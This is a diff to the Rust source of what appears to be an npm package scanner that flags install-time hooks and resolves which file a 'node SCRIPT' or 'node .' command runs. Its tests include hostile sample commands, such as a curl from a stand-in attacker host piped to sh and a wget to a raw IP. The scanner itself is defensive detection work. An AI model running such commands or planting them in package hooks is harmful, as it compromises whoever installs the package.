@@ -57,27 +57,75 @@ pub fn read_manifest(manifest: &SourceFile, package: &Package) -> (Vec<Hook>, Ve
     };
     let text = manifest.text();
     let exists = |p: &str| package.file(p).is_some();
+    let layout = Layout {
+        paths: package.files.iter().map(|f| f.path.as_str()).collect(),
+        main: main_file(&json, &exists),
+    };
 
     let hooks = INSTALL_SCRIPTS
         .iter()
         .filter_map(|&name| {
             let command = json.get("scripts")?.get(name)?.as_str()?;
             let line = line_of(&text, &format!("\"{name}\""));
-            Some(read_hook(name, command, &manifest.path, line, &exists))
+            Some(read_hook(name, command, &manifest.path, line, &layout))
         })
         .collect();
 
     (hooks, entries(&json, &exists))
 }
 
+/// The package as an install script's command sees it: what `node SCRIPT` can run.
+#[derive(Debug, Default)]
+pub struct Layout<'a> {
+    /// Every file path of the package, sorted.
+    pub paths: Vec<&'a str>,
+    /// The file `node .` runs: `main`, else `index.js`.
+    pub main: Option<String>,
+}
+
+impl Layout<'_> {
+    fn exists(&self, path: &str) -> bool {
+        self.paths.binary_search(&path).is_ok()
+    }
+
+    /// The package file `node SCRIPT` runs, resolved the way Node resolves a main module.
+    /// A path that is not there is looked up by its file name, when exactly one file has it:
+    /// re-packed samples and hand-made tarballs lose folders (`node lib/x.js` next to a
+    /// top-level `x.js`), and a guard assumes the worst of the script it cannot place.
+    fn script(&self, script: &str) -> Option<String> {
+        if matches!(script, "." | "./") {
+            return self.main.clone();
+        }
+        let path = paths::join("", script)?;
+        if let Some(found) = paths::js_candidates(&path)
+            .into_iter()
+            .find(|c| self.exists(c))
+        {
+            return Some(found);
+        }
+        let name = path.rsplit('/').next().filter(|n| !n.is_empty())?;
+        let mut same_name = self.paths.iter().filter(|p| {
+            let file = p.rsplit('/').next().unwrap_or(p);
+            file == name || file.strip_suffix(".js") == Some(name)
+        });
+        match (same_name.next(), same_name.next()) {
+            (Some(only), None) => Some((*only).to_owned()),
+            _ => None,
+        }
+    }
+}
+
+/// What `node .` runs in the package folder: the `main` file, else `index.js`.
+fn main_file(json: &Value, exists: &dyn Fn(&str) -> bool) -> Option<String> {
+    json.get("main")
+        .and_then(Value::as_str)
+        .and_then(|main| paths::join("", main))
+        .and_then(|p| paths::js_candidates(&p).into_iter().find(|c| exists(c)))
+        .or_else(|| exists("index.js").then(|| "index.js".to_owned()))
+}
+
 /// Parses one lifecycle script's command line into a [`Hook`].
-pub fn read_hook(
-    name: &str,
-    command: &str,
-    file: &str,
-    line: u32,
-    exists: &dyn Fn(&str) -> bool,
-) -> Hook {
+pub fn read_hook(name: &str, command: &str, file: &str, line: u32, layout: &Layout) -> Hook {
     let segments = split_commands(command);
     if is_native_build(&segments) {
         return Hook {
@@ -106,7 +154,7 @@ pub fn read_hook(
                     let facts = javascript::extract(&format!("{file}#{name}"), code);
                     steps.extend(facts.top_level);
                 } else if let Some(script) = words[1..].iter().find(|w| !w.starts_with('-')) {
-                    match resolve_script(script, exists) {
+                    match layout.script(script) {
                         Some(path) => runs.push(path),
                         None => steps.push(shell_event(file, line, segment)),
                     }
@@ -176,12 +224,6 @@ fn inline_code<'a>(words: &'a [&'a str]) -> Option<&'a str> {
         .iter()
         .position(|w| matches!(*w, "-e" | "--eval" | "-p" | "--print"))?;
     words.get(i + 1).copied()
-}
-
-/// A script argument resolved to a package file, the way Node resolves a main module.
-fn resolve_script(script: &str, exists: &dyn Fn(&str) -> bool) -> Option<String> {
-    let path = paths::join("", script)?;
-    paths::js_candidates(&path).into_iter().find(|c| exists(c))
 }
 
 /// The import-time entry files: `main`, then the string leaves of `exports` (the `"."` entry
@@ -322,6 +364,12 @@ fn line_of(text: &str, needle: &str) -> u32 {
 mod tests {
     use super::*;
 
+    fn layout<'a>(paths: &[&'a str]) -> Layout<'a> {
+        let mut paths = paths.to_vec();
+        paths.sort_unstable();
+        Layout { paths, main: None }
+    }
+
     fn features(hook: &Hook) -> Vec<&'static str> {
         hook.steps
             .iter()
@@ -334,16 +382,56 @@ mod tests {
 
     #[test]
     fn node_script_runs_a_package_file() {
-        let exists = |p: &str| p == "scripts/setup.js";
         let hook = read_hook(
             "postinstall",
             "node ./scripts/setup",
             "package.json",
             5,
-            &exists,
+            &layout(&["scripts/setup.js"]),
         );
         assert_eq!(hook.runs, vec!["scripts/setup.js"]);
         assert_eq!(features(&hook), vec!["H1"]);
+    }
+
+    #[test]
+    fn node_dot_runs_the_main_file() {
+        let mut files = layout(&["build/stealer.js", "package.json"]);
+        files.main = Some("build/stealer.js".into());
+        let hook = read_hook(
+            "postinstall",
+            "node . --postinstall",
+            "package.json",
+            1,
+            &files,
+        );
+        assert_eq!(hook.runs, vec!["build/stealer.js"]);
+        assert_eq!(features(&hook), vec!["H1"]);
+    }
+
+    #[test]
+    fn a_script_whose_folder_was_lost_is_found_by_its_name() {
+        let files = layout(&["server.js", "package.json", "README.md"]);
+        let hook = read_hook(
+            "preinstall",
+            "node lib/server.js",
+            "package.json",
+            1,
+            &files,
+        );
+        assert_eq!(hook.runs, vec!["server.js"]);
+        let hook = read_hook("preinstall", "node lib/server", "package.json", 1, &files);
+        assert_eq!(hook.runs, vec!["server.js"]);
+        // Two candidates, or none: the command is shell of unknown effect.
+        let files = layout(&["a/server.js", "b/server.js", "package.json"]);
+        let hook = read_hook(
+            "preinstall",
+            "node lib/server.js",
+            "package.json",
+            1,
+            &files,
+        );
+        assert!(hook.runs.is_empty());
+        assert_eq!(features(&hook), vec!["H1", "P3"]);
     }
 
     #[test]
@@ -353,7 +441,7 @@ mod tests {
             "curl -s https://evil.example/x.sh | sh",
             "package.json",
             3,
-            &|_| false,
+            &Layout::default(),
         );
         assert_eq!(features(&hook), vec!["H1", "P3", "D2", "P3", "D3"]);
         assert!(hook.runs.is_empty());
@@ -368,11 +456,11 @@ mod tests {
             "node-gyp-build-optional-packages",
             "node-pre-gyp install --fallback-to-build --target_arch=x64",
         ] {
-            let hook = read_hook("install", command, "package.json", 1, &|_| false);
+            let hook = read_hook("install", command, "package.json", 1, &Layout::default());
             assert_eq!(features(&hook), Vec::<&str>::new(), "{command}");
         }
         // Package code, shell or a redirection alongside the build: a hook as any other.
-        let exists = |p: &str| p == "buildcheck.js";
+        let exists = layout(&["buildcheck.js"]);
         for (command, expected) in [
             (
                 "node buildcheck.js > buildcheck.gypi && node-gyp rebuild",
@@ -389,27 +477,32 @@ mod tests {
 
     #[test]
     fn build_tools_are_not_inline_shell_but_chained_commands_are() {
-        let hook = read_hook("install", "husky install", "package.json", 1, &|_| false);
+        let hook = read_hook(
+            "install",
+            "husky install",
+            "package.json",
+            1,
+            &Layout::default(),
+        );
         assert_eq!(features(&hook), vec!["H1"]);
         let hook = read_hook(
             "install",
             "node-gyp rebuild && wget http://1.2.3.4/x",
             "package.json",
             1,
-            &|_| false,
+            &Layout::default(),
         );
         assert_eq!(features(&hook), vec!["H1", "P3", "D2", "D3"]);
     }
 
     #[test]
     fn env_prefixes_are_skipped() {
-        let exists = |p: &str| p == "x.js";
         let hook = read_hook(
             "postinstall",
             "cross-env A=1 node x.js",
             "package.json",
             1,
-            &exists,
+            &layout(&["x.js"]),
         );
         assert_eq!(hook.runs, vec!["x.js"]);
     }
